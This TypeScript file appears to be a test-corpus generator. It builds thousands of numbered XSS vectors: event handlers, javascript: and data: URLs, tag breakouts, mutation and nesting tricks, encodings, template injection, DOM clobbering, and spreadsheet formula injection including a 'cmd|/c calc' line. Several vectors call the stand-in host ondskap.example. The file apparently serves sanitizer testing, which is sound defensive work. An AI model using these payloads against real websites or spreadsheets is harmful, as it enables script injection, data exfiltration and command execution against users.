// Attempts to run a script or to call another host by way of a text. Made by combining what browsers do with markup, not collected.

export const EVIL_HOST = 'ondskap.example';
/** What a vector does when it succeeds: says its own number. */
const code = (n: number): string => `__ran(${n})`;
type Make = (n: number) => string;
/** Each of the one with each of the other. */
const cross = <A, B>(as: readonly A[], bs: readonly B[], make: (a: A, b: B, n: number) => string): Make[] =>
  as.flatMap((a) => bs.map((b) => (n: number) => make(a, b, n)));

const entity = (text: string, style: 'decimal' | 'hex' | 'padded'): string =>
  [...text]
    .map((c) => c.codePointAt(0) ?? 0)
    .map((point) =>
      style === 'decimal' ? `&#${point};` : style === 'hex' ? `&#x${point.toString(16)};` : `&#${String(point).padStart(7, '0')}`,
    )
    .join('');
const mixed = (text: string): string => [...text].map((c, i) => (i % 2 ? c.toUpperCase() : c.toLowerCase())).join('');

/** Elements, with what they need beside the handler to fire it by themselves. */
const ELEMENTS = [
  ...['img src=x', 'image src=x', 'svg', 'body', 'video src=x', 'audio src=x', 'video><source src=x', 'details open', 'input autofocus'],
  // biome-ignore format: a list
  ...[
    'select autofocus', 'textarea autofocus', 'button autofocus', 'a href=# autofocus tabindex=1', 'marquee', 'iframe',
    'iframe src=about:blank',
  ],
  // biome-ignore format: a list
  ...[
    'object data=x', 'embed src=x', 'style', 'link rel=stylesheet href=x', 'script src=x', 'svg><animate attributeName=x dur=1s',
    'svg><set attributeName=x',
  ],
  // biome-ignore format: a list
  ...[
    'svg><image href=x', 'svg><use href=x', 'math', 'p contenteditable autofocus', 'div tabindex=1 autofocus', 'table background=x',
    'td', 'h1', 'span', 'custom-element',
  ],
  ...['input type=image src=x', 'picture><img src=x', 'dialog open', 'meter', 'keygen autofocus', 'isindex', 'frameset', 'bgsound src=x'],
];
const HANDLERS = [
  ...['onerror', 'onload', 'onfocus', 'ontoggle', 'onstart', 'onbegin', 'onpageshow', 'onanimationstart', 'onpointerover', 'onmouseover'],
  ...['onclick', 'onbeforetoggle', 'onscrollend', 'oncontentvisibilityautostatechange'],
];
const SEPARATORS = [' ', '/', '\t', '\n', '\f', ' / ', '\r\n'];
const VALUES: ((n: number) => string)[] = [
  (n) => code(n),
  (n) => `"${code(n)}"`,
  (n) => `'${code(n)}'`,
  (n) => `\`${code(n)}\``,
  (n) => entity(code(n), 'decimal'),
  (n) => entity(code(n), 'hex'),
  (n) => entity(code(n), 'padded'),
  (n) => `"__ran&lpar;${n}&rpar;"`,
  (n) => `eval('\\x5f\\x5fran(${n})')`,
  (n) => `"window['__'+'ran'](${n})"`,
  (n) => `"setTimeout\`__ran(${n})\`"`,
  (n) => `"import('data:text/javascript,__ran(${n})')"`,
];

function handlers(): Make[] {
  const all = ELEMENTS.flatMap((element) => HANDLERS.map((handler) => ({ element, handler })));
  return all.flatMap(({ element, handler }, i): Make[] => {
    const separator = SEPARATORS[i % SEPARATORS.length] ?? ' ';
    const [one, two] = [VALUES[i % VALUES.length], VALUES[(i * 5 + 3) % VALUES.length]];
    const spelled = i % 3 === 0 ? mixed(handler) : handler;
    return [
      (n) => `<${element}${separator}${handler}=${one?.(n)}>`,
      (n) => `<${i % 2 ? mixed(element) : element} ${spelled} = ${two?.(n)} x`,
      (n) => `${BREAKOUTS[i % BREAKOUTS.length]}<${element} ${handler}=${two?.(n)}>`,
    ];
  });
}

const SCHEMES: Make[] = [
  (n) => `javascript:${code(n)}`,
  (n) => `${mixed('javascript')}:${code(n)}`,
  (n) => `java\tscript:${code(n)}`,
  (n) => `java\nscript:${code(n)}`,
  (n) => ` javascript:${code(n)}`,
  (n) => `\u0001javascript:${code(n)}`,
  (n) => entity(`javascript:${code(n)}`, 'hex'),
  (n) => `java&Tab;script&colon;${code(n)}`,
  (n) => `javascript://%0a${code(n)}`,
  (n) => `vbscript:${code(n)}`,
  (n) => `data:text/html,<script>parent.${code(n)}</script>`,
  (n) => `data:text/html;base64,${btoa(`<script>parent.${code(n)}</script>`)}`,
  (n) => `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='parent.${code(n)}'/>`,
  (n) => `//${EVIL_HOST}/${n}`,
  (n) => `http://${EVIL_HOST}/${n}`,
  (n) => `\\\\${EVIL_HOST}\\${n}`,
  (n) => `https:${EVIL_HOST}/${n}`,
  (n) => `feed:javascript:${code(n)}`,
];
const URL_PLACES: ((url: string) => string)[] = [
  (u) => `<a href="${u}">x</a>`,
  (u) => `<a href="${u}" ping="${u}" target=_blank autofocus>x</a>`,
  (u) => `<iframe src="${u}"></iframe>`,
  (u) => `<iframe srcdoc="<a href='${u}'>x</a>"></iframe>`,
  (u) => `<object data="${u}"></object>`,
  (u) => `<embed src="${u}">`,
  (u) => `<form action="${u}"><input type=submit autofocus></form>`,
  (u) => `<button formaction="${u}" form=x>x</button>`,
  (u) => `<base href="${u}">`,
  (u) => `<meta http-equiv=refresh content="0;url=${u}">`,
  (u) => `<svg><a xlink:href="${u}"><text y=20>x</text></a></svg>`,
  (u) => `<svg><a><animate attributeName=href values="${u}"/><text y=20>x</text></a></svg>`,
  (u) => `<svg><use href="${u}"/></svg>`,
  (u) => `<svg><image href="${u}"/></svg>`,
  (u) => `<math href="${u}">x</math>`,
  (u) => `<img src="${u}">`,
  (u) => `<img srcset="${u} 1x" loading=eager>`,
  (u) => `<link rel=stylesheet href="${u}">`,
  (u) => `<link rel=preload as=image href="${u}">`,
  (u) => `<script src="${u}"></script>`,
  (u) => `<video poster="${u}" src="${u}"></video>`,
  (u) => `<table background="${u}"><tr><td background="${u}">x</table>`,
  (u) => `<p style="background:url('${u}')">x</p>`,
  (u) => `<style>@import '${u}';p{background:url(${u})}</style>`,
  (u) => `<img src='${u}`,
  (u) => `<area href="${u}"><map name=x><area href="${u}"></map>`,
  (u) => `[x](${u})`,
  (u) => u,
];
const urls = cross(URL_PLACES, SCHEMES, (place, scheme, n) => place(scheme(n)));

const CORES: Make[] = [
  (n) => `<script>${code(n)}</script>`,
  (n) => `<img src=x onerror=${code(n)}>`,
  (n) => `<svg onload=${code(n)}>`,
  (n) => `<svg><script>${code(n)}</script></svg>`,
  (n) => `<svg><script href="data:text/javascript,${code(n)}"/>`,
  (n) => `<iframe srcdoc="<script>parent.${code(n)}</script>">`,
  (n) => `<details open ontoggle=${code(n)}>`,
  (n) => `<input onfocus=${code(n)} autofocus>`,
  (n) => `<img src=//${EVIL_HOST}/${n}>`,
  (n) => `<style>@import'//${EVIL_HOST}/${n}'</style>`,
];
const BREAKOUTS = [
  // biome-ignore format: a list
  ...[
    '"', "'", '">', "'>", '`>', '</p>', '</div>', '</td></tr></table>', '</textarea>', '</title>', '</style>', '</script>', '-->',
    '--!>', ']]>',
  ],
  // biome-ignore format: a list
  ...[
    '</noscript>', '</xmp>', '</template>', '</svg>', '</math>', '</select>', '</option>', '</iframe>', '</noembed>', '</plaintext>',
    '</span></li>',
  ],
  // biome-ignore format: a list
  ...[
    '<!--', '<!-->', '<!--->', '<![CDATA[', '<?xml version="1.0"?>', '<!DOCTYPE html [<!ENTITY x "y">]>', '*/', '\\";', "\\';", '";',
    "';", '${', '{{', '\\u003c/script\\u003e',
  ],
  // biome-ignore format: a list
  ...[
    '<a title="', "<p title='", '<p id="</p>', '&quot;&gt;', '&lt;/p&gt;', '\ufeff', '\u202e', '\u200b', '<\u0000', '<scr<script>ipt>',
    '<<', '< ', '</ ', '<%', '<?', '<!',
  ],
];
const breakouts = cross(BREAKOUTS, CORES, (before, core, n) => `${before}${core(n)}`);

// biome-ignore format: a list
const FOREIGN = [
  'svg', 'math', 'svg><foreignObject', 'svg><desc', 'svg><title', 'math><mtext', 'math><mi', 'math><annotation-xml encoding="text/html"',
  'math><mtext><table><mglyph',
];
// biome-ignore format: a list
const RAW_TEXT = [
  'style', 'script', 'xmp', 'iframe', 'noembed', 'noframes', 'noscript', 'textarea', 'title', 'template', 'plaintext', 'select',
  'option', 'table', 'form', 'p', 'h1', 'li',
];
const HIDDEN: ((core: string, raw: string) => string)[] = [
  (core, raw) => `<${raw}><!--</${raw}>${core}-->`,
  (core, raw) => `<${raw}><a title="</${raw}>${core}">`,
  (core, raw) => `<${raw}><![CDATA[</${raw}>${core}]]>`,
  (core, raw) => `<p><${raw}></p><${raw}>${core.replaceAll('<', '&lt;')}`,
  (core, raw) => `<form><${raw}></form><form><${raw}>${core}</${raw}>`,
];
/** Markup that means one thing to the cleaner and another when the browser reads it again. */
const mutations = FOREIGN.flatMap((outer, i) =>
  cross(RAW_TEXT, HIDDEN, (raw, hide, n) => `<${outer}>${hide(CORES[(i + n) % CORES.length]?.(n) ?? '', raw)}`),
);
/** Deep nesting, which parsers cut off at different depths. */
const nested = cross(
  ['div', 'b', 'table><tr><td', 'svg><g', 'math><mi', 'ul><li', 'font', 'a', 'button'],
  [3, 60, 520],
  (tag, depth, n) => `${`<${tag}>`.repeat(depth)}${CORES[n % CORES.length]?.(n)}`,
);

const ENCODINGS: ((text: string) => string)[] = [
  (t) => t.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (t) => t.replaceAll('<', '&amp;lt;').replaceAll('>', '&amp;gt;'),
  (t) => t.replaceAll('<', '&#60;').replaceAll('>', '&#62;'),
  (t) => t.replaceAll('<', '&#x3c').replaceAll('>', '&#x3e'),
  (t) => encodeURIComponent(t),
  (t) => encodeURIComponent(encodeURIComponent(t)),
  (t) => t.replaceAll('<', '\\u003c').replaceAll('>', '\\u003e'),
  (t) => t.replaceAll('<', '\\x3c').replaceAll('>', '\\x3e'),
  (t) => t.replaceAll('<', '＜').replaceAll('>', '＞'),
  (t) => t.replaceAll('<', '‹').replaceAll('>', '›'),
  (t) => t.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-'),
  (t) => t.replaceAll('s', 'ſ').replaceAll('k', 'K'),
  (t) => t.replaceAll('<', '<\u200b'),
  (t) => t.replaceAll('<', '%3C').replaceAll('>', '%3E'),
  (t) => [...t].join('\u00ad'),
  (t) =>
    mixed(t)
      .replaceAll('__RAN', '__ran')
      .replaceAll(/__[rR][aA][nN]/g, '__ran'),
  (t) => t.toUpperCase().replaceAll('__RAN', '__ran'),
  (t) => `\u001b[31m${t}`,
];
const encoded = cross(CORES, ENCODINGS, (core, encode, n) => encode(core(n)));

const TEMPLATES: Make[] = [
  (n) => `{{constructor.constructor('${code(n)}')()}}`,
  (n) => `{{$on.constructor('${code(n)}')()}}`,
  (n) => `\${${code(n)}}`,
  (n) => `#{${code(n)}}`,
  (n) => `<%= ${code(n)} %>`,
  (n) => `[[${code(n)}]]`,
  (n) => `<p v-html="'<img src=x onerror=${code(n)}>'">`,
  (n) => `<p x-init="${code(n)}">`,
  (n) => `<p ng-init="constructor.constructor('${code(n)}')()">`,
  (n) => `__proto__[innerHTML]=<img src=x onerror=${code(n)}>`,
  (n) => `{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${code(n)}>"}}`,
  (n) => `{"type":"img","props":{"src":"x","onError":"${code(n)}"}}`,
];
/** Names by which a page's own objects could be hidden behind elements. */
// biome-ignore format: a list
const CLOBBERING = [
  '__proto__', 'document', 'cookie', 'getElementById', 'attributes', 'nodeName', 'parentNode', 'childNodes', 'innerHTML', 'root',
  'content', 'boot', 'location', 'body',
];
const clobbering = CLOBBERING.flatMap((name): Make[] => [
  (n) => `<form id=${name}><input name=${name}><img name=${name} src=x onerror=${code(n)}></form>`,
  (n) => `<a id=${name}></a><a id=${name} name=x href="javascript:${code(n)}">x</a>`,
  (n) => `<img id=${name} name=${name} src=//${EVIL_HOST}/${n}>`,
]);

const FORMULAS = ['=', '+', '-', '@', '|', '%', '\t=', '\r=', ' =', '\u00a0=', '\n+', '"=', "'=", ';=', '\ufeff=', '＝', '＋', '－', '＠'];
const formulas = FORMULAS.flatMap((start): Make[] => [
  (n) => `${start}HYPERLINK("http://${EVIL_HOST}/${n}";"x")`,
  (n) => `${start}cmd|'/c calc'!A${n}`,
  (n) => `x";${start}IMPORTXML("http://${EVIL_HOST}/${n}")`,
  (n) => `x\r\n${start}1+${n}`,
]);

/** All of them, each with its own number in it; the same every time. */
export function xssVectors(): string[] {
  const makes = [
    ...[...handlers(), ...urls, ...breakouts, ...mutations, ...nested, ...encoded, ...TEMPLATES, ...clobbering, ...formulas],
    ...cross(BREAKOUTS, URL_PLACES.slice(0, 26), (before, place, n) => before + place(SCHEMES[n % SCHEMES.length]?.(n) ?? '')),
  ];
  return makes.map((make, n) => make(n));
}
